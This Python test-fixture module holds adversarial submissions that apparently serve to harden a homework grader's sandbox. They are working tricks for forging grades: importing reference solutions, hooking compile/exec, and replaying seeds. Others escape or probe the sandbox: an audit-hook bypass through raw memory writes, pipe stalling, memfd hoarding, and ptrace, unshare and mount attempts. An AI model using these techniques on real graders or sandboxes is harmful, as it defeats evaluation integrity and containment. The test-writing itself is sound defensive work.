"""The submissions of the trust-boundary attacks (tests/test_homework_walls.py), as text.

Each is what a student could hand in: the body of an assigned function that tries to
forge its grade. Every one falls back to ``NotImplementedError`` when its trick fails,
so 0 points (status "not implemented") is the honest answer and anything more is a
forged grade. They live here, apart from the tests, so that a script can run them
against any version of the grader (before and after a fix).
"""
from __future__ import annotations

FALLBACK = "raise NotImplementedError('the trick did not work')"

# ------------------------------------------------------------------ the catalogue shipped in the copy
# With default options a catalogue variant IS the reference: attention's, dropout's, the masks' (each in its
# assignment's file, homework/assignments/<id>.py).
CATALOGUE_ATTENTION_FORWARD = f"""
import numpy as np
try:
    from minitransformer.homework.assignments.attention import _attention
except ImportError:
    {FALLBACK}
inp = {{"q": q, "k": k, "v": v, "mask": mask, "bias": bias, "p_drop": p_drop, "drop_mask": drop_mask,
       "upstream": np.zeros(q.shape[:-1] + v.shape[-1:])}}
return _attention(inp)["out"], inp
"""
CATALOGUE_ATTENTION_BACKWARD = """
from minitransformer.homework.assignments.attention import _attention
r = _attention(dict(cache, upstream=dout))
return (r["dq"], r["dk"], r["dv"]) + ((r["dbias"],) if cache["bias"] is not None else ())
"""
CATALOGUE_DROPOUT_FORWARD = f"""
import numpy as np
try:
    from minitransformer.homework.assignments.dropout import _dropout
except ImportError:
    {FALLBACK}
if not training or p_drop == 0:
    return x, None
inp = {{"x": x, "p_drop": p_drop, "mask": mask, "upstream": np.zeros_like(x)}}
return _dropout(inp)["out"].astype(x.dtype), inp
"""
CATALOGUE_DROPOUT_BACKWARD = """
from minitransformer.homework.assignments.dropout import _dropout
if cache is None:
    return dy
return _dropout(dict(cache, upstream=dy))["dx"].astype(dy.dtype)
"""
CATALOGUE_CAUSAL = f"""
try:
    from minitransformer.homework.assignments.causal_mask import _causal
except ImportError:
    {FALLBACK}
return _causal({{"T": T, "S": S}})["out"]
"""
CATALOGUE_SINUSOIDAL = f"""
try:
    from minitransformer.homework.assignments.sinusoidal import _sinusoidal
except ImportError:
    {FALLBACK}
return _sinusoidal({{"max_len": max_len, "d": d}})["out"].astype(dtype)
"""

# ------------------------------------------------------------------ catching the source sent to the child
# linear is graded first: its body hooks compile and exec; attention's body (graded after the
# reference of softmax and dropout were sent) shows what was caught, in its exception message.
CATCH_SOURCE_LINEAR = f"""
import builtins
if not hasattr(builtins, "_caught"):
    builtins._caught = []
    real_compile, real_exec = builtins.compile, builtins.exec
    def compile(source, *a, **k):
        builtins._caught.append(source if isinstance(source, str) else "")
        return real_compile(source, *a, **k)
    def exec(source, *a, **k):
        builtins._caught.append(source if isinstance(source, str) else "")
        return real_exec(source, *a, **k)
    builtins.compile, builtins.exec = compile, exec
{FALLBACK}
"""
SHOW_SOURCE_ATTENTION = f"""
import builtins
caught = "".join(getattr(builtins, "_caught", []))
if caught:
    raise RuntimeError("caught: " + caught[:480])
{FALLBACK}
"""

# ------------------------------------------------------------------ replaying the drawers
# The drawers of the graded inputs, replayed from seed 0 up until they draw the very x given.
REPLAY_LINEAR = f"""
import numpy as np
try:
    from minitransformer.homework.assignments.linear import ASSIGNMENT
except ImportError:
    {FALLBACK}
graded = ASSIGNMENT.main
for seed in range(20000):
    case = graded.draw(np.random.default_rng([seed, 0, 0]))
    if case.inputs["x"].shape == x.shape and np.array_equal(case.inputs["x"], x):
        raise RuntimeError(f"the secret seed is {{seed}}")
{FALLBACK}
"""

# ------------------------------------------------------------------ a child that stops reading
# The first call shrinks the pipe the child reads requests from to one page and makes the
# server stop reading at the first request longer than that (the large vocabulary's W): the
# parent's write of it can then only finish if it has a deadline.
STALL_EMBEDDING = f"""
import fcntl, json, os, struct, sys, time
main = sys.modules["__main__"]
if not getattr(main, "_stalling", False):
    main._stalling = True
    for fd in range(3, 32):
        try:
            fcntl.fcntl(fd, 1031, 4096)            # F_SETPIPE_SZ
        except OSError:
            pass
    def read_frame(fd, wait=None):
        def exact(n):
            data = b""
            while len(data) < n:
                chunk = os.read(fd, n - len(data))
                if not chunk:
                    raise EOFError
                data += chunk
            return data
        (n,) = struct.unpack("<Q", exact(8))
        if n > 3000:
            time.sleep(10 ** 6)                    # never read the rest
        body = exact(n)
        (h,) = struct.unpack("<I", body[:4])
        header = json.loads(body[4:4 + h])
        blobs, at = [], 4 + h
        for s in header["sizes"]:
            blobs.append(body[at:at + s])
            at += s
        return header, blobs
    main.read_frame = read_frame
{FALLBACK}
"""

# ------------------------------------------------------------------ past the audit hook, then syscalls
# NumPy's __array_interface__ writes raw memory: the length of the hook's tuple of refused
# events set to 0 empties it. What the kernel then allows is all that holds.
BYPASS_HOOK = """
import sys
import numpy as np
_refused = sys.modules["__main__"].install_hook.__defaults__[1]
class _Raw:
    pass
_raw = _Raw()
_raw.__array_interface__ = {"data": (id(_refused) + 16, False), "shape": (1,), "typestr": "<i8", "version": 3}
np.asarray(_raw)[0] = 0                         # ob_size of the tuple: empty
"""


def syscalls_body(unix_path: str = "", udp_port: int = 0) -> str:
    """A softmax_forward body that gets past the hook, tries every door the kernel should close,
    and reports each outcome in its exception message ("name=ok" or "name=ErrorName")."""
    return BYPASS_HOOK + f"""
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
seen = {{}}
def attempt(name, act):
    try:
        result = act()
        seen[name] = "ok" if result is None or result >= 0 else "errno" + str(ctypes.get_errno())
    except BaseException as e:
        seen[name] = type(e).__name__
def fallocate():                                            # KEEP_SIZE: the file size stays 0, past
    done = -1                                               # RLIMIT_FSIZE; 1 MiB at a time up to 2 GiB
    for mib in range(2048):
        if libc.fallocate(2, 1, ctypes.c_long(mib << 20), ctypes.c_long(1 << 20)) != 0:
            break
        done = mib
    return done
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"forged", ("127.0.0.1", {udp_port}))
def unix():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect({unix_path!r})
    s.sendall(b"run: touch /tmp/owned")
def memfd():
    return os.memfd_create("hold")
def fork():
    pid = os.fork()
    if pid == 0:
        os._exit(0)
def ptrace():
    return libc.ptrace(16, os.getppid(), None, None)                          # PTRACE_ATTACH
def process_vm_readv():
    return libc.process_vm_readv(os.getppid(), None, 0, None, 0, 0)
def unshare():
    return libc.unshare(0x10000000 | 0x40000000)                              # user + net namespace
def mount():
    return libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
for name, act in (("fallocate", fallocate), ("udp", udp), ("unix", unix), ("memfd", memfd), ("fork", fork),
                  ("ptrace", ptrace), ("process_vm_readv", process_vm_readv), ("unshare", unshare),
                  ("mount", mount)):
    attempt(name, act)
raise RuntimeError("walls: " + " ".join(f"{{k}}={{v}}" for k, v in seen.items()))
"""


# ------------------------------------------------------------------ memory held outside the address space
MEMFD_HOARD = f"""
import os
held = []
try:
    for _ in range(20000):
        fd = os.memfd_create("hold")
        os.write(fd, b"x" * 65536)
        held.append(fd)
except OSError as e:
    pass
if held:
    raise RuntimeError(f"held {{len(held)}} memfds of 64 KiB")
{FALLBACK}
"""

# ------------------------------------------------------------------ an echo emptied from inside the child
# The values are right; the backward empties the list of its own arguments in the server's frame.
EMPTY_ECHO_BACKWARD = """
import sys
import numpy as np
held = sys._getframe(1).f_locals.get("args")           # the server's tuple of this call's arguments
if type(held) is tuple:
    class _Raw:
        pass
    raw = _Raw()
    raw.__array_interface__ = {"data": (id(held) + 16, False), "shape": (1,), "typestr": "<i8", "version": 3}
    np.asarray(raw)[0] = 0                              # its length: 0, so the echo comes back empty
y, axis = cache
return y * (dy - (dy * y).sum(axis, keepdims=True))
"""
